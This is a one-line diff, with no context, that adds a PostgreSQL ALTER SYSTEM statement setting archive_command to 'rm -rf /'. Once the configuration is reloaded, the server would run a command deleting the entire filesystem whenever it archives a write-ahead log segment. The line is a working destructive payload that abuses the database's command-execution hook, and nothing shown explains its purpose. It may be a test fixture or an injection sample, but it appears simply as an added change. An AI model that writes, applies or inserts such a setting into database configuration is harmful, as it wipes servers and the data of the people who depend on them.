@@ -1,0 +1,1 @@
+alter system set archive_command = 'rm -rf /'
